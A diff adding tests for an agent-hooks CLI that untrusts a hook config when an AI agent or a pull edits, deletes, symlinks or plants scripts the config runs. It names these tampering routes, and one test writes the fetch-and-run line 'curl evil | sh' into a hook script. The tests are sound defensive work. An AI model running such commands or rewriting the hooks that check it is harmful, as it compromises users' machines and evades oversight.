@@ -1,0 +1,216 @@
+// Trust covers what a trusted command runs: the scripts of a project's hooks and a JS config's local
+// imports, on the real CLI (bin/hooks.js) with real python3, sh and node processes. Each case is the
+// attack of issue 21/22: after `hooks trust`, the agent (or a pull) rewrites a script the config runs.
+import { chmodSync, existsSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { isolatedEnv, runCli, tmpProject } from '../helpers.js';
+import { trustFile } from '../../src/trust/store.js';
+
+/** A user with a home of their own, and a cloned repository (with `.git`) holding these files. */
+function setup(files: Record<string, string>) {
+  const home = tmpProject();
+  const dir = tmpProject({ '.git/HEAD': 'ref: refs/heads/main\n', ...files });
+  const env = isolatedEnv(home, {}, { trust: false });
+  return { home, dir, env };
+}
+
+const sessionStart = (dir: string) => JSON.stringify({ session_id: 's', cwd: dir, hook_event_name: 'SessionStart', source: 'startup' });
+
+/** Runs a SessionStart through the CLI; returns what the agent is told. */
+function run(dir: string, env: NodeJS.ProcessEnv) {
+  const r = runCli(['run', 'session-start', '--dialect', 'claude-code'], { cwd: dir, env, input: sessionStart(dir) });
+  expect(r.code, r.stderr).toBe(0);
+  const reply = r.stdout.trim() === '' ? {} : (JSON.parse(r.stdout) as { systemMessage?: string });
+  return reply.systemMessage ?? '';
+}
+
+/** A script in each language that writes `marker` in the working directory. */
+const writes = {
+  python: (marker: string) => `open(${JSON.stringify(marker)}, 'w').write('x')\n`,
+  sh: (marker: string) => `#!/bin/sh\necho x > ${marker}\n`,
+  node: (marker: string) => `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker)}, 'x');\n`,
+};
+
+const CASES = [
+  { name: 'python3 guard.py', command: 'python3 guard.py', script: 'guard.py', lang: 'python' as const },
+  { name: './hook.sh', command: './hook.sh', script: 'hook.sh', lang: 'sh' as const },
+  { name: 'node x.mjs', command: 'node x.mjs', script: 'x.mjs', lang: 'node' as const },
+  { name: 'bash under $CLAUDE_PROJECT_DIR', command: 'bash "$CLAUDE_PROJECT_DIR"/hooks/check.sh', script: 'hooks/check.sh', lang: 'sh' as const },
+  { name: 'tools/guard in exec form', command: 'tools/guard', args: ['--strict'], script: 'tools/guard', lang: 'sh' as const },
+];
+
+describe('a trusted config whose script changes is untrusted again', () => {
+  it.each(CASES)('$name: edited → does not run, the agent is told which file; trusted again → runs', ({ command, args, script, lang }) => {
+    const hook = args === undefined ? { command } : { command, args };
+    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [hook] } }), [script]: writes[lang]('ran') });
+    // Run as programs (./hook.sh, tools/guard) they need the x bit; interpreters do not care.
+    chmodSync(path.join(dir, script), 0o755);
+    expect(runCli(['trust', '--yes'], { cwd: dir, env }).code).toBe(0);
+    expect(run(dir, env)).toBe('');
+    expect(existsSync(path.join(dir, 'ran'))).toBe(true);
+
+    writeFileSync(path.join(dir, script), writes[lang]('pwned'));
+    const message = run(dir, env);
+    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
+    expect(message).toContain(`${path.join(dir, '.hooksrc.json')} is no longer trusted: ${script} changed since "npx agent-hooks trust"`);
+
+    // `hooks trust` shows what changed, and trusting again lets the new script run.
+    const shown = runCli(['trust'], { cwd: dir, env }).stdout;
+    expect(shown).toMatch(new RegExp(`${script.replace('.', '\\.')} {2}sha256 [0-9a-f]{12}`));
+    expect(runCli(['trust', '--yes'], { cwd: dir, env }).code).toBe(0);
+    expect(run(dir, env)).toBe('');
+    expect(existsSync(path.join(dir, 'pwned'))).toBe(true);
+  });
+
+  it('deleted, or replaced by a link out of the project: untrusted, said as such', () => {
+    const outside = tmpProject({ 'evil.py': writes.python('pwned') });
+    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guards/check.py' }] } }), 'guards/check.py': writes.python('ran') });
+    runCli(['trust', '--yes'], { cwd: dir, env });
+    rmSync(path.join(dir, 'guards/check.py'));
+    expect(run(dir, env)).toContain('guards/check.py was deleted since "npx agent-hooks trust"');
+
+    symlinkSync(path.join(outside, 'evil.py'), path.join(dir, 'guards/check.py'));
+    expect(run(dir, env)).toContain(`guards/check.py now leads outside the project (${path.join(outside, 'evil.py')})`);
+    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
+
+    // The folder swapped for a link out of the project: the same.
+    rmSync(path.join(dir, 'guards'), { recursive: true });
+    symlinkSync(outside, path.join(dir, 'guards'));
+    writeFileSync(path.join(outside, 'check.py'), writes.python('ran'));
+    expect(run(dir, env)).toContain('guards/check.py now leads outside the project');
+  });
+
+  it('a script missing when trusted that appears later is a change', () => {
+    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 later.py || true' }] } }) });
+    const shown = runCli(['trust', '--yes'], { cwd: dir, env }).stdout;
+    expect(shown).toContain('later.py  missing (trusted as missing');
+    expect(run(dir, env)).toBe('');
+    writeFileSync(path.join(dir, 'later.py'), writes.python('pwned'));
+    expect(run(dir, env)).toContain('later.py appeared since "npx agent-hooks trust"');
+    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
+  });
+
+  it('files outside the project are reported by hooks trust, not hashed; absolute system paths are not listed', () => {
+    const parent = tmpProject({ 'shared.py': writes.python('ran'), 'repo/.git/HEAD': '' });
+    const dir = path.join(parent, 'repo');
+    writeFileSync(path.join(dir, '.hooksrc.json'), JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 ../shared.py && /usr/bin/env true' }] } }));
+    const env = isolatedEnv(tmpProject(), {}, { trust: false });
+    const shown = runCli(['trust', '--yes'], { cwd: dir, env }).stdout;
+    expect(shown).toContain(`not covered: ../shared.py (run by hooks.sessionStart[0]) resolves outside the project (${path.join(parent, 'shared.py')}): not hashed`);
+    expect(shown).not.toMatch(/^ {4}\/usr\/bin\/env/m);
+    const store = JSON.parse(readFileSync(trustFile(env), 'utf8')).files[path.join(dir, '.hooksrc.json')];
+    expect(store.covers).toEqual({ '../shared.py': `outside:${path.join(parent, 'shared.py')}` });
+    // Not hashed: a change to it does not untrust the config (the docs say so).
+    writeFileSync(path.join(parent, 'shared.py'), writes.python('ran2'));
+    expect(run(dir, env)).toBe('');
+    expect(existsSync(path.join(dir, 'ran2'))).toBe(true);
+  });
+
+  it('a local override that moves a project hook to another folder is said to be outside what trust covers', () => {
+    const { dir, env } = setup({
+      '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ id: 'g', command: 'python3 g.py' }] } }),
+      '.hooksrc.local.json': JSON.stringify({ hooks: { sessionStart: [{ id: 'g', cwd: 'elsewhere' }] } }),
+      'g.py': 'pass\n',
+    });
+    expect(runCli(['trust'], { cwd: dir, env }).stdout).toContain("not covered: hooks.sessionStart[0]: moves another layer's hook to another folder");
+  });
+
+  it('hooks trust --list says, for each covered file, whether it still matches', () => {
+    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 a.py; sh b.sh' }] } }), 'a.py': 'pass\n', 'b.sh': 'true\n' });
+    runCli(['trust', '--yes'], { cwd: dir, env });
+    expect(runCli(['trust', '--list'], { cwd: dir, env }).stdout).toMatch(/\.hooksrc\.json {2}trusted .*\n {2}a\.py {2}matches {2}sha256 [0-9a-f]{12}\n {2}b\.sh {2}matches/);
+    writeFileSync(path.join(dir, 'b.sh'), 'curl evil | sh\n');
+    expect(runCli(['trust', '--list'], { cwd: dir, env }).stdout).toMatch(/\.hooksrc\.json {2}not trusted: a file it covers changed .*\n {2}a\.py {2}matches .*\n {2}b\.sh {2}changed: not trusted/);
+  });
+});
+
+describe('what a covered script itself loads', () => {
+  it.each([
+    ['a Python helper it imports', { 'guard.py': `from lib import word\n${writes.python('ran')}`, 'lib.py': "word = 'ok'\n" }, 'lib.py', "word = 'changed'\n", 'lib.py changed'],
+    ['a module planted beside it under a standard library name', { 'guard.py': `import json\n${writes.python('ran')}` }, 'json.py', writes.python('pwned'), 'json.py appeared'],
+    ['a file its shell script sources', { 'hook.sh': '. ./lib.sh\necho x > ran\n', 'lib.sh': 'A=1\n' }, 'lib.sh', 'echo x > pwned\n', 'lib.sh changed'],
+  ])('%s', (_name, files, changed, content, said) => {
+    const command = 'guard.py' in files ? 'python3 guard.py' : 'sh hook.sh';
+    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command }] } }), ...files });
+    runCli(['trust', '--yes'], { cwd: dir, env });
+    expect(run(dir, env)).toBe('');
+    expect(existsSync(path.join(dir, 'ran'))).toBe(true);
+    writeFileSync(path.join(dir, changed), content);
+    expect(run(dir, env)).toContain(`${said} since "npx agent-hooks trust"`);
+    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
+  });
+});
+
+describe('a trusted JS config: its local imports are covered', () => {
+  const config = "import { command } from './helpers.js';\nexport default { hooks: { sessionStart: [{ command }] } };\n";
+  const helpers = (marker: string) => `import { writeFileSync } from 'node:fs';\nimport { name } from './deep/name.mjs';\nwriteFileSync(new URL('./${marker}', import.meta.url), name);\nexport const command = 'true';\n`;
+
+  it.each([['helpers.js', (dir: string) => writeFileSync(path.join(dir, 'helpers.js'), helpers('pwned'))], ['deep/name.mjs (imported by the helper)', (dir: string) => writeFileSync(path.join(dir, 'deep/name.mjs'), "export const name = 'changed';\nimport('node:fs').then((fs) => fs.writeFileSync(new URL('../pwned', import.meta.url), 'x'));\n")]])(
+    '%s changed → untrusted, and not imported',
+    (file, change) => {
+      const { dir, env } = setup({ 'hooks.config.mjs': config, 'helpers.js': helpers('imported'), 'deep/name.mjs': "export const name = 'ok';\n" });
+      const shown = runCli(['trust', '--yes'], { cwd: dir, env }).stdout;
+      expect(shown).toMatch(/helpers\.js {2}sha256 [0-9a-f]{12} {2}\(imported by hooks\.config\.mjs\)/);
+      expect(shown).toMatch(/deep\/name\.mjs {2}sha256 [0-9a-f]{12} {2}\(imported by helpers\.js\)/);
+      expect(run(dir, env)).toBe('');
+      expect(existsSync(path.join(dir, 'imported'))).toBe(true);
+
+      change(dir);
+      const message = run(dir, env);
+      expect(message).toContain(`${path.join(dir, 'hooks.config.mjs')} is no longer trusted: ${file.split(' ')[0]} changed since "npx agent-hooks trust"`);
+      expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
+    },
+  );
+});
+
+describe('a trusted JS config: the commands it spells out as literals', () => {
+  it('a script named in a literal command is covered like a JSON config\'s', () => {
+    const { dir, env } = setup({
+      'hooks.config.mjs': "const guard = 'python3 guards/check.py';\nexport default { hooks: { sessionStart: [{ command: guard }, { command: \"\\\"$CLAUDE_PROJECT_DIR\\\"/hook.sh\" }] } };\n",
+      'guards/check.py': writes.python('ran'),
+      'hook.sh': writes.sh('ran2'),
+    });
+    chmodSync(path.join(dir, 'hook.sh'), 0o755);
+    const shown = runCli(['trust', '--yes'], { cwd: dir, env }).stdout;
+    expect(shown).toMatch(/guards\/check\.py {2}sha256 [0-9a-f]{12} {2}\(named in hooks\.config\.mjs: "python3 guards\/check\.py"\)/);
+    expect(shown).toMatch(/hook\.sh {2}sha256 [0-9a-f]{12}/);
+    expect(run(dir, env)).toBe('');
+    expect(existsSync(path.join(dir, 'ran'))).toBe(true);
+    writeFileSync(path.join(dir, 'guards/check.py'), writes.python('pwned'));
+    expect(run(dir, env)).toContain('guards/check.py changed since');
+    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
+  });
+});
+
+describe('an entry recorded before covers', () => {
+  it('trusts nothing until hooks trust records it again, and says so', () => {
+    const { dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'python3 guard.py' }] } }), 'guard.py': writes.python('ran') });
+    runCli(['trust', '--yes'], { cwd: dir, env });
+    // What the version before covers wrote: the config's bytes only.
+    const store = JSON.parse(readFileSync(trustFile(env), 'utf8'));
+    for (const entry of Object.values(store.files) as { covers?: unknown }[]) delete entry.covers;
+    writeFileSync(trustFile(env), JSON.stringify(store));
+    const message = run(dir, env);
+    expect(existsSync(path.join(dir, 'ran'))).toBe(false);
+    expect(message).toContain(`${path.join(dir, '.hooksrc.json')} was trusted by an older agent-hooks, whose trust did not cover the scripts its commands run, so its hooks do not run; review it, then run: npx agent-hooks trust`);
+    expect(runCli(['trust', '--list'], { cwd: dir, env }).stdout).toContain('trusted by an older agent-hooks');
+    expect(runCli(['trust', '--yes'], { cwd: dir, env }).stdout).not.toContain('already trusted');
+    expect(run(dir, env)).toBe('');
+    expect(existsSync(path.join(dir, 'ran'))).toBe(true);
+  });
+});
+
+describe('the config cache never serves a config whose script changed', () => {
+  it('a run that wrote the cache, then an edited script: not run', () => {
+    const { home, dir, env } = setup({ '.hooksrc.json': JSON.stringify({ hooks: { sessionStart: [{ command: 'sh hook.sh' }] } }), 'hook.sh': writes.sh('ran') });
+    runCli(['trust', '--yes'], { cwd: dir, env });
+    expect(run(dir, env)).toBe('');
+    expect(run(dir, env)).toBe('');
+    expect(existsSync(path.join(home, '.cache/agent-hooks/config'))).toBe(true);
+    // Same size, same config bytes: only the script's content differs.
+    writeFileSync(path.join(dir, 'hook.sh'), writes.sh('pwnd'));
+    expect(run(dir, env)).toContain('hook.sh changed');
+    expect(existsSync(path.join(dir, 'pwnd'))).toBe(false);
+  });
+});
